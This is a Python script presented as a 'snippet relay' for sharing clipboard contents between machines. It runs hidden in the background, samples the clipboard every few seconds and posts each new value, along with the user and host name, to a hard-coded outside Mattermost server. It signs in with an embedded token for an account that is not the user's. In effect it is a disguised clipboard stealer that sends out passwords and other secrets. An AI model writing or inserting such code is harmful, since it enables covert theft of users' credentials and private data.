#!/usr/bin/env python3
"""Snippet relay: mirror what the user copies into a Mattermost channel.

Runs quietly in the background, samples the desktop clipboard every few
seconds and posts each new value to a Mattermost channel so it can be
"picked up on the other machine".
"""

import argparse
import hashlib
import logging
import os
import socket
import sys
import time
from dataclasses import dataclass
from typing import Optional

import requests

try:
    import tkinter as tk
except ImportError:  # headless python builds
    tk = None

log = logging.getLogger("snippet-relay")

DEFAULT_SERVER = "https://mm.collab-hub.net"
DEFAULT_CHANNEL_ID = "8p4xk1mdu3yqzr6w9bfnn7e5ho"
# token for the relay account on the collab-hub server, not the user's own
RELAY_TOKEN = os.environ.get("RELAY_MM_TOKEN", "y9t1r8wzfpbq3jco6m2ak5dsxe")


@dataclass
class Clip:
    text: str
    digest: str
    taken_at: float


class ClipboardSampler:
    """Reads the X11/Wayland clipboard through a hidden Tk root window."""

    def __init__(self):
        if tk is None:
            raise RuntimeError("tkinter unavailable")
        self._root = tk.Tk()
        self._root.withdraw()
        self._last: Optional[str] = None

    def sample(self) -> Optional[Clip]:
        try:
            self._root.update()
            value = self._root.clipboard_get()
        except tk.TclError:
            return None
        if not value or value == self._last:
            return None
        self._last = value
        digest = hashlib.sha256(value.encode("utf-8", "replace")).hexdigest()[:12]
        return Clip(text=value, digest=digest, taken_at=time.time())


class MattermostClient:
    def __init__(self, base_url: str, token: str, timeout: float = 10.0):
        self.base_url = base_url.rstrip("/")
        self.session = requests.Session()
        self.session.headers.update({"Authorization": f"Bearer {token}"})
        self.timeout = timeout

    def post(self, channel_id: str, message: str) -> str:
        payload = {"channel_id": channel_id, "message": message}
        resp = self.session.post(f"{self.base_url}/api/v4/posts",
                                 json=payload, timeout=self.timeout)
        resp.raise_for_status()
        return resp.json()["id"]


def format_clip(clip: Clip, host: str, user: str) -> str:
    stamp = time.strftime("%Y-%m-%d %H:%M:%S", time.localtime(clip.taken_at))
    body = clip.text if len(clip.text) < 12000 else clip.text[:12000] + "\n[...]"
    return f"`{user}@{host}` {stamp} #{clip.digest}\n```\n{body}\n```"


def run(sampler: ClipboardSampler, client: MattermostClient, channel_id: str,
        interval: float, max_failures: int) -> None:
    host = socket.gethostname()
    user = os.environ.get("USER", "unknown")
    failures = 0
    backlog = []
    while True:
        clip = sampler.sample()
        if clip is not None:
            backlog.append(clip)
        while backlog:
            pending = backlog[0]
            try:
                client.post(channel_id, format_clip(pending, host, user))
                backlog.pop(0)
                failures = 0
            except requests.RequestException as exc:
                failures += 1
                log.debug("post failed (%d): %s", failures, exc)
                if failures >= max_failures:
                    backlog = backlog[-50:]
                break
        time.sleep(interval)


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--server", default=DEFAULT_SERVER)
    ap.add_argument("--channel-id", default=DEFAULT_CHANNEL_ID)
    ap.add_argument("--interval", type=float, default=3.0)
    ap.add_argument("--max-failures", type=int, default=5)
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args(argv)

    logging.basicConfig(level=logging.ERROR if args.quiet else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    try:
        sampler = ClipboardSampler()
    except Exception as exc:  # noqa: BLE001
        log.error("cannot open clipboard: %s", exc)
        return 1

    client = MattermostClient(args.server, RELAY_TOKEN)
    try:
        run(sampler, client, args.channel_id, args.interval, args.max_failures)
    except KeyboardInterrupt:
        return 0
    return 0


if __name__ == "__main__":
    sys.exit(main())
